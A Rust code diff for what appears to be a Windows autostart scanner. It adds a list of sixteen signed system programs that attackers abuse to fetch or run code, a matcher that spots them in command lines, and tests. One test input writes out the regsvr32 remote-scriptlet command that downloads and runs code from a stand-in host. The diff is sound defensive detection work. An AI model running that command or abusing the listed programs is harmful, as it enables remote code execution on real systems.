@@ -298,9 +298,42 @@ pub(crate) fn user_writable_place(lower: &str) -> Option<&'static str> {
 }
 
 pub(crate) fn interpreter(command: &str) -> Option<&'static str> {
+    named_program(command, &INTERPRETERS)
+}
+
+/// Signed Windows programs that run code or fetch files they are given (LOLBAS,
+/// https://lolbas-project.github.io/): in an autostart entry, what they are given is the
+/// real program.
+const LOLBINS: [&str; 16] = [
+    "regsvr32.exe",
+    "msiexec.exe",
+    "certutil.exe",
+    "bitsadmin.exe",
+    "installutil.exe",
+    "regasm.exe",
+    "regsvcs.exe",
+    "msbuild.exe",
+    "cmstp.exe",
+    "odbcconf.exe",
+    "forfiles.exe",
+    "wmic.exe",
+    "msxsl.exe",
+    "hh.exe",
+    "pcalua.exe",
+    "mavinject.exe",
+];
+
+/// The LOLBin an autostart command starts, if any.
+pub(crate) fn lolbin(command: &str) -> Option<&'static str> {
+    named_program(command, &LOLBINS)
+}
+
+/// The first of `programs` the command names as a program (after a path separator, a space or
+/// a quote, or at the start), not inside another name (`mycmd.exe` is not `cmd.exe`).
+fn named_program(command: &str, programs: &[&'static str]) -> Option<&'static str> {
     let lower = command.to_ascii_lowercase();
-    INTERPRETERS.iter().copied().find(|i| {
-        lower.match_indices(i).any(|(at, _)| {
+    programs.iter().copied().find(|p| {
+        lower.match_indices(p).any(|(at, _)| {
             at == 0 || matches!(lower.as_bytes()[at - 1], b'\\' | b'/' | b' ' | b'"')
         })
     })
@@ -330,5 +363,10 @@ mod tests {
         );
         assert_eq!(interpreter("%COMSPEC% /b /c start"), Some("%comspec%"));
         assert_eq!(interpreter("C:\\tools\\mycmd.exe"), None);
+        assert_eq!(
+            lolbin("regsvr32.exe /s /n /u /i:http://x/a.sct scrobj.dll"),
+            Some("regsvr32.exe")
+        );
+        assert_eq!(lolbin("C:\\tools\\myregsvr32.exe"), None);
     }
 }
